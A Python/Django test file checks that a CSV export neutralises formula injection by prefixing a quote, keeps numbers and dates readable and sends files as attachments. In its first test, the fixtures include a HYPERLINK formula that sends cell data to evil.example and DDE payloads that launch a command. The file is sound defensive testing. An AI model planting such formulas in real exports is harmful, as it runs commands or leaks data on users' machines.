"""CSV downloads: formula-leading text is neutralised, numbers are kept, files are attachments."""

from __future__ import annotations

import csv
import io

from django.test import Client

from kernel.api.renderers import CSVRenderer
from tests.factories import AgreementFactory, PartyFactory

from .conftest import AGREEMENTS


def read_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def test_it_prefixes_formula_leading_cells_with_a_quote(client: Client, db: None) -> None:
    for title in [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tleading tab",
    ]:
        AgreementFactory(title=title)

    response = client.get(AGREEMENTS, {"format": "csv", "ordering": "title"})

    assert response.status_code == 200
    titles = sorted(row["title"] for row in read_rows(response.getvalue()))
    assert titles == sorted(
        [
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
            "'=cmd|' /C calc'!A0",
            "'+1+cmd|' /C calc'!A0",
            "'-2+3+cmd|' /C calc'!A0",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'\tleading tab",
        ]
    )


def test_it_neutralises_a_formula_that_starts_a_joined_list(client: Client, db: None) -> None:
    party = PartyFactory(slug="p", name="=1+1")

    response = client.get("/api/parties/", {"format": "csv"})

    row = next(r for r in read_rows(response.getvalue()) if r["slug"] == party.slug)
    assert row["name"] == "'=1+1"


def test_it_neutralises_formulas_but_leaves_numbers_and_dates_readable() -> None:
    rows = [
        {"count": 7, "delta": 2, "share": 1.0, "text_number": "-1+1", "signed": "=1+1"},
        {"count": 3, "delta": -2, "share": -0.5, "text_number": "-12.5", "signed": "2017-07"},
        {"count": 0, "delta": 1e3, "share": 1.5, "text_number": "+3", "signed": "2017-07-04"},
        {"count": 1, "delta": 0, "share": 0.0, "text_number": "a-b", "signed": ""},
    ]

    content = CSVRenderer().render(rows)

    assert read_rows(content) == [
        {"count": "7", "delta": "2", "share": "1.0", "text_number": "'-1+1", "signed": "'=1+1"},
        {"count": "3", "delta": "-2", "share": "-0.5", "text_number": "-12.5", "signed": "2017-07"},
        {
            "count": "0",
            "delta": "1000.0",
            "share": "1.5",
            "text_number": "+3",
            "signed": "2017-07-04",
        },
        {"count": "1", "delta": "0", "share": "0.0", "text_number": "a-b", "signed": ""},
    ]


def test_it_sends_the_csv_as_an_attachment_named_for_the_resource(client: Client, db: None) -> None:
    agreement = AgreementFactory(slug="cas-shenzhen-2017")

    response = client.get(AGREEMENTS, {"format": "csv"})
    parties = client.get("/api/parties/", {"format": "csv"})
    one = client.get(f"{AGREEMENTS}{agreement.slug}/", {"format": "csv"})

    assert response["Content-Disposition"] == 'attachment; filename="agreements.csv"'
    assert parties["Content-Disposition"] == 'attachment; filename="parties.csv"'
    assert one["Content-Disposition"] == 'attachment; filename="cas-shenzhen-2017.csv"'
